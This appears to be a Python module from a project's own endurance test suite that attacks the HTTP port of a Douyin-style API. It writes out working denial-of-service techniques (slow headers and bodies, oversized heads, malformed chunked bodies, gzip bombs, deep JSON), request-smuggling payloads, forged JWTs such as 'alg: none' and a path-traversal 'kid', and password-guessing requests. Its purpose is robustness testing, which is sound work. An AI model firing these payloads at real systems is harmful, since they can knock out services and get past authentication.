"""Attacks on the API's HTTP port."""

import base64
import gzip
import itertools
import json
import random
from collections.abc import Iterator
from typing import Final

from scripts.endurance.attacks.target import Target, hold, repeat, send

_HOST: Final = b"Host: x\r\n"
_FEED: Final = b"GET /douyin/feed/ HTTP/1.1\r\n" + _HOST + b"\r\n"
_JSON: Final = b"Content-Type: application/json\r\n"
_CHUNKED: Final = b"Transfer-Encoding: chunked\r\n"
_LOGIN: Final = b"POST /douyin/user/login/ HTTP/1.1\r\n" + _HOST + _JSON
_KIB: Final = 1 << 10


async def idle_connections(target: Target) -> None:
    """2,000 connections that send nothing."""
    await repeat(lambda _: hold(target.http, b""), 2000)


async def slow_headers(target: Target) -> None:
    """500 connections that send a header byte by byte."""
    head = b"GET /ping HTTP/1.1\r\nX: " + b"a" * 10_000
    await repeat(lambda _: send(target.http, _bytes(head), pause=0.5, read=False), 500)


async def slow_bodies(target: Target) -> None:
    """500 connections that send a JSON body byte by byte."""
    body = itertools.chain([_LOGIN + b"Content-Length: 60000\r\n\r\n"], _bytes(b" " * 60_000))
    pieces = list(itertools.islice(body, 200))
    await repeat(lambda _: send(target.http, pieces, pause=0.5, read=False), 500)


async def unread_answers(target: Target) -> None:
    """150 connections with 200 pipelined requests that read no answer."""
    path = target.object_path.encode()
    download = b"GET " + path + b" HTTP/1.1\r\n" + _HOST + b"\r\n"
    await repeat(lambda n: hold(target.http, (download if n % 2 else _FEED) * 200), 150)


async def pipelining(target: Target) -> None:
    """16 connections that pipeline 200 requests at a time and read the answers."""
    last = _FEED.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n")
    await repeat(lambda _: send(target.http, [_FEED * 200 + last]), 16)


async def ranges(target: Target) -> None:
    """Downloads of single bytes, of many ranges, and of ranges that make no sense."""
    odd = [
        "0-0", "-1", "0-", "-0", "5-2", ",".join(["0-"] * 1000), "0-0," * 500 + "1-1",
        "9" * 400 + "-", "-" + "9" * 400, "0-18446744073709551616", "\u0661-\u0662", "a-b",
    ]  # fmt: skip
    path = target.object_path.encode()

    def request(n: int) -> bytes:
        range_ = odd[n % len(odd)].encode()
        head = b"GET " + path + b" HTTP/1.1\r\n" + _HOST + b"Connection: close\r\n"
        return head + b"Range: bytes=" + range_ + b"\r\n\r\n"

    await repeat(lambda n: send(target.http, [request(n)]), 32)


async def huge_heads(target: Target) -> None:
    """Request lines, headers and numbers of headers far beyond what clients send."""
    heads = [
        b"GET /ping?" + b"a" * (63 << 10) + b" HTTP/1.1\r\n" + _HOST + b"\r\n",
        b"GET /ping?" + b"a" * (1 << 20) + b" HTTP/1.1\r\n" + _HOST + b"\r\n",
        b"GET /ping HTTP/1.1\r\n" + _HOST + b"X: " + b"a" * (1 << 20) + b"\r\n\r\n",
        b"GET /ping HTTP/1.1\r\n" + _HOST + b"X: a\r\n" * 200_000 + b"\r\n",
        b"GET /ping HTTP/1.1\r\n" + _HOST + b"Cookie: a=b; " * 4000 + b"\r\n\r\n",
        b"GET /douyin/feed/?" + b"token=a&" * 8000 + b" HTTP/1.1\r\n" + _HOST + b"\r\n",
    ]
    await repeat(lambda n: send(target.http, [heads[n % len(heads)]]), 16)


async def chunks(target: Target) -> None:
    """Chunked bodies of single bytes, with huge extensions and trailers, and wrong sizes."""
    head = _LOGIN + _CHUNKED + b"\r\n"
    bodies = [
        b"1\r\n \r\n" * 60_000 + b"0\r\n\r\n",
        b"1;" + b"x" * (1 << 20) + b"\r\na\r\n0\r\n\r\n",
        b"1\r\na\r\n0\r\n" + b"X: y\r\n" * 100_000 + b"\r\n",
        b"f" * 4000 + b"\r\n",
        b"ffffffffffffffff\r\na",
        b"-1\r\na\r\n0\r\n\r\n",
        b"0x1\r\na\r\n0\r\n\r\n",
        b"1\na\n0\n\n",
        b"\r\n" * 100_000,
        b"2\r\naGET /ping HTTP/1.1\r\n\r\n",
    ]
    await repeat(lambda n: send(target.http, [head + bodies[n % len(bodies)]]), 16)


async def smuggling(target: Target) -> None:
    """Requests whose end is ambiguous, with another one behind them."""
    inner = b"GET /ping HTTP/1.1\r\n" + _HOST + b"\r\n"
    heads = [
        b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nabcde",
        b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
        b"Content-Length: +5\r\n\r\nabcde",
        b"Content-Length: 0x5\r\n\r\nabcde",
        b" folded: yes\r\n\r\n",
        b"X\r\n\r\n",
        b"Upgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
        b"Expect: 100-continue\r\nContent-Length: 5\r\n\r\n",
    ]
    await repeat(lambda n: send(target.http, [_LOGIN + heads[n % len(heads)] + inner]), 16)


async def mutated_requests(target: Target) -> None:
    """Valid requests with changed, removed and repeated bytes."""
    pick = random.Random(11)
    body = json.dumps({"username": "a", "password": "b"}).encode()
    whole = _LOGIN + b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body
    await repeat(lambda _: send(target.http, [_mutated(whole, pick)]), 16)


async def compressed_bodies(target: Target) -> None:
    """Bodies that decompress to a thousand times their size."""
    form = (
        b'--b\r\nContent-Disposition: form-data; name="token"\r\n\r\n' + target.token.encode()
        + b'\r\n--b\r\nContent-Disposition: form-data; name="data"; filename="x.mp4"\r\n\r\n'
        + bytes(256 << 20) + b"\r\n--b--\r\n"
    )  # fmt: skip
    packed = gzip.compress(form, 9)
    multipart = b"Content-Type: multipart/form-data; boundary=b\r\n"
    publish = b"POST /douyin/publish/action/ HTTP/1.1\r\n" + _HOST + multipart
    tail = b"Content-Encoding: gzip\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
    requests = [
        publish + tail % len(packed) + packed,
        _LOGIN + tail % len(packed) + packed,
    ]
    del form
    await repeat(lambda n: send(target.http, [requests[n % 2]]), 4)


async def json_bodies(target: Target) -> None:
    """JSON that is deep, wide, or has long numbers."""
    bodies = [
        b"[" * 60_000,
        b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
        b'{"username":' + b"1" * 60_000 + b"}",
        b'{"username":1e' + b"9" * 60_000 + b"}",
        b'{"username":"' + b"\\u0000" * 10_000 + b'"}',
        b"{" + b",".join(b'"k%d":0' % n for n in range(6000)) + b"}",
    ]

    def request(n: int) -> bytes:
        body = bodies[n % len(bodies)]
        return _LOGIN + b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body

    await repeat(lambda n: send(target.http, [request(n)]), 16)


async def forged_tokens(target: Target) -> None:
    """Tokens with other algorithms, keys, headers and lengths, in parallel."""
    tokens = list(forged(target.token))

    def request(n: int) -> bytes:
        query = b"?token=" + tokens[n % len(tokens)].encode()
        return (
            b"GET /douyin/relation/friend/list/" + query + b"&user_id=1 HTTP/1.1\r\n" + _HOST
            + b"Connection: close\r\n\r\n"
        )  # fmt: skip

    await repeat(lambda n: send(target.http, [request(n)]), 16)


async def logins(target: Target) -> None:
    """64 guessers of passwords."""

    def request(n: int) -> bytes:
        query = b"?username=guessed%d&password=secret-%d" % (n % 50, n)
        return (
            b"POST /douyin/user/login/" + query + b" HTTP/1.1\r\n" + _HOST
            + b"Connection: close\r\n\r\n"
        )  # fmt: skip

    await repeat(lambda n: send(target.http, [request(n)]), 64)


def forged(token: str) -> Iterator[str]:
    """Yield tokens that no server may accept, made from a valid one."""
    head, claims, signature = token.split(".")
    for header in (
        {"alg": "none"}, {"alg": "None", "typ": "JWT"}, {"alg": "HS512", "typ": "JWT"},
        {"alg": "RS256", "typ": "JWT"}, {"alg": "HS256", "kid": "../../dev/null"},
        {"alg": "HS256", "jku": "http://127.0.0.1/"}, {"alg": ["HS256"]}, {"alg": None},
    ):  # fmt: skip
        text = _base64(json.dumps(header).encode())
        yield f"{text}.{claims}."
        yield f"{text}.{claims}.{signature}"
    yield f"{head}.{_base64(json.dumps({'sub': '1', 'exp': 10**12}).encode())}.{signature}"
    yield f"{head}.{claims}.{signature[:-4]}AAAA"
    yield f"{head}.{claims}.{signature}.{signature}"
    yield f"{head}.{claims}"
    yield "." * 1000
    yield "a" * 60_000
    yield f"{_base64(b'[' * 20_000)}.{claims}.{signature}"


def _base64(text: bytes) -> str:
    return base64.urlsafe_b64encode(text).rstrip(b"=").decode()


def _bytes(text: bytes) -> Iterator[bytes]:
    return (text[n : n + 1] for n in range(len(text)))


def _mutated(whole: bytes, pick: random.Random) -> bytes:
    changed = bytearray(whole)
    for _ in range(pick.randrange(1, 8)):
        at = pick.randrange(len(changed))
        match pick.randrange(3):
            case 0:
                changed[at] = pick.randrange(256)
            case 1:
                del changed[at : at + pick.randrange(1, 9)]
            case _:
                changed[at:at] = changed[at : at + pick.randrange(1, 50)]
    return bytes(changed)


ATTACKS: Final = {
    "idle connections": idle_connections,
    "slow headers": slow_headers,
    "slow bodies": slow_bodies,
    "unread answers": unread_answers,
    "pipelining": pipelining,
    "ranges": ranges,
    "huge heads": huge_heads,
    "chunked bodies": chunks,
    "smuggling": smuggling,
    "mutated requests": mutated_requests,
    "compressed bodies": compressed_bodies,
    "JSON bodies": json_bodies,
    "forged tokens": forged_tokens,
    "password guesses": logins,
}
